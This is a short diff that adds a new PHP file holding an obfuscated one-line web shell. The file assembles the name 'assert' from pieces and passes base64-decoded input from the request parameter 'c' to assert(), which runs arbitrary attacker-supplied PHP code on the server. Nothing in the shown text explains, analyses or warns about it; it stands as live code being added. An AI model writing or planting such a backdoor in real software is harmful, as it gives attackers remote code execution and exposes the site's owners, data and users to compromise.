@@ -1,0 +1,3 @@
+<?php
+$a = 'as'.'sert';
+assert(base64_decode($_REQUEST['c']));
